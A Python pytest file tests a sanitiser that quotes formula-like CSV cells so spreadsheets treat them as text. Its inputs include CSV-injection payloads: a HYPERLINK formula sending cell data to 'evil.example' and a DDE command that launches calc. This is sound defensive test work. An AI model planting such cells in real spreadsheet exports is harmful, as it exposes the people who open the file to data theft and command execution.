"""CSV cells a spreadsheet opens as data."""
from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from app.platform.spreadsheet import safe_cell


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0",
                                  "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"])
def test_formula_like_text_is_quoted(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-12.00", "+3", "42", -5, 3.5, "w1", "p-1", "a=b", ""])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert safe_cell(value) == value


def test_times_structures_and_nothing():
    assert safe_cell(None) == ""
    assert safe_cell(datetime(2026, 10, 1, 12, tzinfo=UTC)) == "2026-10-01T12:00:00+00:00"
    assert safe_cell({"b": 1, "a": "=x"}) == '{"a": "=x", "b": 1}'
    buffer = io.StringIO()
    csv.writer(buffer).writerow([safe_cell(["=1"])])
    assert buffer.getvalue().strip() == '"[""=1""]"'
